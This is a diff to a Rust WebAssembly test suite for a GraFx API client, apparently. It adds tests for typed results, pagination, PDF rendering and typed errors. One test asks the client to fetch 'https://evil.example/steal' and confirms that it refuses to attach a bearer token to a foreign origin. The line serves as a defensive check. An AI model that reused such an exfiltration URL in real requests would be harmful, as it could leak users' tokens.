@@ -3,7 +3,7 @@
 //! does; each Rust test below runs one of them with a factory for `GraFxClient`.
 #![cfg(target_arch = "wasm32")]
 
-use grafx_wasm::GraFxClient;
+use grafx_wasm::JsGraFxClient;
 use js_sys::Function;
 use wasm_bindgen::prelude::*;
 use wasm_bindgen_test::*;
@@ -44,7 +44,7 @@ async fn run(name: &str) {
         .and(set("emulatorUrl", emulator))
         .expect("env object");
     let make = Closure::<dyn Fn(JsValue) -> Result<JsValue, JsValue>>::new(|opts| {
-        GraFxClient::new(opts).map(JsValue::from)
+        JsGraFxClient::new(opts).map(JsValue::from)
     })
     .into_js_value();
     let is_error =
@@ -107,6 +107,224 @@ js_tests!(
     a_frozen_peer_does_not_hang_this_tab,
     dispose_stops_work_already_in_flight,
     a_reused_signal_gathers_no_listeners,
+    parallel_and_later_401s_make_one_signer_call,
+    timers_are_released_on_every_path,
     subscriptions,
     auto_refresh_on_wake,
 );
+
+// The Rust API (`grafx_wasm::GraFxClient`), as a Leptos or Yew app calls it: typed results, typed
+// errors, and what goes on the wire.
+mod rust_api {
+    use grafx_core::ErrorCode;
+    use grafx_wasm::{
+        ClientOptions, GraFxClient, ListOptions, OutputFormat, RenderRequest, WaitOptions,
+    };
+    use serde::Deserialize;
+    use wasm_bindgen::JsValue;
+    use wasm_bindgen_test::*;
+
+    const FLYER: &str = "7a1c0e4d-0000-4000-8000-000000000001";
+
+    fn signer() -> String {
+        super::env_url(
+            option_env!("GRAFX_TEST_SIGNER_URL"),
+            "GRAFX_TEST_SIGNER_URL",
+        )
+        .as_string()
+        .unwrap_or_default()
+    }
+
+    fn emulator() -> String {
+        super::env_url(
+            option_env!("GRAFX_TEST_EMULATOR_URL"),
+            "GRAFX_TEST_EMULATOR_URL",
+        )
+        .as_string()
+        .unwrap_or_default()
+    }
+
+    /// One request in the emulator's journal.
+    #[derive(Deserialize)]
+    struct Sent {
+        method: String,
+        path: String,
+        #[serde(default, with = "serde_wasm_bindgen::preserve")]
+        body: JsValue,
+    }
+
+    async fn journal() -> Vec<Sent> {
+        let text = gloo_net::http::Request::get(&format!("{}/_emulator/requests", emulator()))
+            .send()
+            .await
+            .expect("journal")
+            .text()
+            .await
+            .expect("journal body");
+        serde_wasm_bindgen::from_value(js_sys::JSON::parse(&text).expect("journal JSON"))
+            .expect("journal entries")
+    }
+
+    async fn clear_journal() {
+        gloo_net::http::Request::delete(&format!("{}/_emulator/requests", emulator()))
+            .send()
+            .await
+            .expect("clear journal");
+    }
+
+    fn field(v: &JsValue, path: &[&str]) -> JsValue {
+        path.iter().fold(v.clone(), |v, k| {
+            js_sys::Reflect::get(&v, &JsValue::from_str(k)).unwrap_or(JsValue::UNDEFINED)
+        })
+    }
+
+    fn client(integration: &str) -> GraFxClient {
+        GraFxClient::new(ClientOptions {
+            integration: Some(integration.into()),
+            cross_tab: Some(false),
+            ..ClientOptions::new(signer())
+        })
+        .expect("valid options")
+    }
+
+    #[wasm_bindgen_test]
+    async fn rust_api_typed_helpers_on_the_wire() {
+        let grafx = client("rw");
+        assert!(grafx
+            .access_token()
+            .await
+            .expect("token")
+            .starts_with("eyJ"));
+        let token = grafx.token().expect("cached token");
+        assert_eq!(token.environment(), "demo");
+        assert!(token
+            .environment_api_url()
+            .as_str()
+            .ends_with("/environment/demo/"));
+
+        let page = grafx
+            .templates()
+            .list(&ListOptions {
+                limit: Some(2),
+                ..ListOptions::default()
+            })
+            .await
+            .expect("templates.list");
+        assert_eq!(page.items.len(), 2);
+        assert!(page.next_page_token.is_some(), "9 templates, 2 a page");
+        let next = grafx
+            .templates()
+            .list(&ListOptions {
+                limit: Some(2),
+                page_token: page.next_page_token.clone(),
+                ..ListOptions::default()
+            })
+            .await
+            .expect("the next page");
+        assert_ne!(next.items[0].id, page.items[0].id);
+        let flyer = grafx.templates().get(FLYER).await.expect("templates.get");
+        assert_eq!(flyer.name, "Summer Sale Flyer");
+
+        clear_journal().await;
+        let project = grafx
+            .projects()
+            .create(FLYER, Some("From Rust"))
+            .await
+            .expect("projects.create");
+        assert_eq!(project.name, "From Rust");
+        assert_eq!(
+            project.template.as_ref().map(|t| t.id.as_str()),
+            Some(FLYER)
+        );
+        let sent = journal().await;
+        let post = sent
+            .iter()
+            .find(|r| r.method == "POST" && r.path == "projects")
+            .expect("POST projects on the wire");
+        assert_eq!(
+            field(&post.body, &["template", "id"])
+                .as_string()
+                .as_deref(),
+            Some(FLYER)
+        );
+        assert_eq!(
+            field(&post.body, &["name"]).as_string().as_deref(),
+            Some("From Rust")
+        );
+
+        let settings = grafx.output().settings().await.expect("output.settings");
+        assert!(settings
+            .iter()
+            .any(|s| s.kind.eq_ignore_ascii_case("pdf") && s.default));
+        clear_journal().await;
+        let pdf = grafx
+            .output()
+            .render(
+                OutputFormat::Pdf,
+                &RenderRequest::project(project.id.clone()),
+                &WaitOptions {
+                    interval_ms: Some(100),
+                    ..WaitOptions::default()
+                },
+            )
+            .await
+            .expect("output.render");
+        assert!(pdf.blob.size() > 100.0, "a real PDF");
+        assert!(pdf.download_url.contains(&pdf.task_id));
+        let sent = journal().await;
+        let post = sent
+            .iter()
+            .find(|r| r.method == "POST" && r.path == "output/pdf")
+            .expect("POST output/pdf on the wire");
+        assert_eq!(
+            field(&post.body, &["projectId"]).as_string(),
+            Some(project.id.clone())
+        );
+        assert!(
+            field(&post.body, &["outputSettingsId"]).is_string(),
+            "the default setting"
+        );
+        grafx
+            .projects()
+            .delete(&project.id)
+            .await
+            .expect("projects.delete");
+        grafx.dispose();
+    }
+
+    #[wasm_bindgen_test]
+    async fn rust_api_errors_are_typed() {
+        let bad = GraFxClient::new(ClientOptions::new("ftp://signer.example")).err();
+        assert_eq!(
+            bad.map(|e| e.code().clone()),
+            Some(ErrorCode::InvalidOptions)
+        );
+
+        let grafx = client("default");
+        #[derive(Deserialize, Debug)]
+        struct Anything {}
+        let missing = grafx
+            .json::<Anything>("templates/no-such-template", None)
+            .await
+            .expect_err("a 404");
+        assert_eq!(missing.code(), &ErrorCode::ApiError);
+        assert_eq!(missing.http_status(), Some(404));
+        assert!(missing.message().contains("404"), "{}", missing.message());
+        let foreign = grafx
+            .fetch("https://evil.example/steal", None)
+            .await
+            .expect_err("no bearer to a foreign origin");
+        assert_eq!(foreign.code(), &ErrorCode::InvalidOptions);
+
+        let writer = client("writer")
+            .access_token()
+            .await
+            .expect_err("a write token is not for browsers");
+        assert_eq!(writer.code(), &ErrorCode::SignerRejected);
+        assert_eq!(writer.signer_error_code(), Some("scope_not_allowed"));
+
+        grafx.dispose();
+        let after = grafx.access_token().await.expect_err("disposed");
+        assert_eq!(after.code(), &ErrorCode::InvalidOptions);
+    }
+}
